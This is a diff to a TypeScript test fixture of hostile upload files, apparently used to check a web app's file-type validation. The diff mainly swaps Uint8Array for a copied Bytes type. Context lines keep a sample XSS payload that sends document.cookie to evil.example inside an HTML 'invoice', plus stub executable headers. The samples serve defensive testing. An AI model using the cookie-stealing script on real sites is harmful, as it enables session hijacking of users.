@@ -11,7 +11,7 @@ export interface HostileFile {
 	name: string;
 	/** The type the browser claims; never trusted. */
 	claimedType: string;
-	bytes: () => Uint8Array;
+	bytes: () => Bytes;
 	/** group-files (sponsor groups) and resolution-files (campaigns) accept different types. */
 	group: Outcome;
 	campaign: Outcome;
@@ -19,8 +19,17 @@ export interface HostileFile {
 	storedName?: (name: string) => boolean;
 }
 
-const text = (value: string) => new TextEncoder().encode(value);
-const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
+type Bytes = Uint8Array<ArrayBuffer>;
+
+/** A copy in a plain ArrayBuffer, which is what File and Blob accept. */
+function own(bytes: Uint8Array): Bytes {
+	const copy = new Uint8Array(bytes.byteLength);
+	copy.set(bytes);
+	return copy;
+}
+
+const text = (value: string): Bytes => own(new TextEncoder().encode(value));
+const concat = (...parts: Uint8Array[]): Bytes => own(Buffer.concat(parts));
 
 const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
 const HTML = `<!doctype html><html><body><h1>Invoice</h1>${SCRIPT}</body></html>`;
@@ -42,7 +51,7 @@ const JPEG = Uint8Array.from([
 ]);
 
 /** A Windows executable: MZ header whose e_lfanew points at a PE signature. */
-function windowsExecutable(): Uint8Array {
+function windowsExecutable(): Bytes {
 	const bytes = new Uint8Array(512);
 	bytes.set(text('MZ'), 0);
 	new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
@@ -51,7 +60,7 @@ function windowsExecutable(): Uint8Array {
 	return bytes;
 }
 
-function linuxExecutable(): Uint8Array {
+function linuxExecutable(): Bytes {
 	const bytes = new Uint8Array(128);
 	bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
 	return bytes;
@@ -64,7 +73,7 @@ interface ZipEntry {
 }
 
 /** A minimal ZIP (deflate, no ZIP64) written by hand: what Office documents are made of. */
-export function zip(entries: ZipEntry[]): Uint8Array {
+export function zip(entries: ZipEntry[]): Bytes {
 	const locals: Buffer[] = [];
 	const centrals: Buffer[] = [];
 	let offset = 0;
@@ -102,7 +111,7 @@ export function zip(entries: ZipEntry[]): Uint8Array {
 	end.writeUInt16LE(entries.length, 10);
 	end.writeUInt32LE(directory.length, 12);
 	end.writeUInt32LE(offset, 16);
-	return new Uint8Array(Buffer.concat([...locals, directory, end]));
+	return own(Buffer.concat([...locals, directory, end]));
 }
 
 const WORD_TYPES =
@@ -367,7 +376,7 @@ export const CORPUS: HostileFile[] = [
 		label: 'UTF-16 text (NUL bytes) as .txt',
 		name: 'notes.txt',
 		claimedType: 'text/plain',
-		bytes: () => new Uint8Array(Buffer.from('\ufeffhello', 'utf16le')),
+		bytes: () => own(Buffer.from('\ufeffhello', 'utf16le')),
 		group: 'refused',
 		campaign: 'refused'
 	},
